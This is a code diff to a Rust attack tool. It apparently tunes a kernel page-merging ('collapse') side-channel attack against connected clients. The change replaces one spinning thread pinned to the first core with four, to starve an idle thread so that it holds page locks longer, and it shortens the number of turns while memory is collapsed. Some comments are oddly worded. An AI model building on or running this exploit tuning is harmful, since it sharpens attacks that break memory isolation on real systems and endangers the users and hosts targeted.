@@ -12,6 +12,12 @@ use super::{AgentError, Attack, memory, own, wire};
 /// Turns of one client.
 const STAY: u64 = 200;
 
+/// The same while its memory is collapsed, which the kernel does once for each client: pages that are merged stay so.
+const STAY_COLLAPSED: u64 = 40;
+
+/// Threads that keep the idle one from running: the fewer it runs, the longer it holds the locks of pages.
+const BUSY: usize = 4;
+
 /// Words among which one of the bell's bucket is looked for.
 const CANDIDATES: usize = 8192;
 
@@ -71,12 +77,14 @@ pub fn collapse(attack: &mut Attack<'_>) -> Result<(), AgentError> {
             .collect();
         over.store(false, Ordering::Relaxed);
         thread::scope(|scope| {
-            scope.spawn(|| {
-                own::stay_on_first_core();
-                while !over.load(Ordering::Relaxed) {
-                    std::hint::spin_loop();
-                }
-            });
+            for _ in 0..BUSY {
+                scope.spawn(|| {
+                    own::stay_on_first_core();
+                    while !over.load(Ordering::Relaxed) {
+                        std::hint::spin_loop();
+                    }
+                });
+            }
             scope.spawn(|| {
                 own::stay_on_first_core();
                 own::be_idle();
@@ -87,7 +95,7 @@ pub fn collapse(attack: &mut Attack<'_>) -> Result<(), AgentError> {
                     }
                 }
             });
-            for _ in 0..STAY {
+            for _ in 0..STAY_COLLAPSED {
                 if !attack.goes_on(5) || !client.is_connected() {
                     break;
                 }
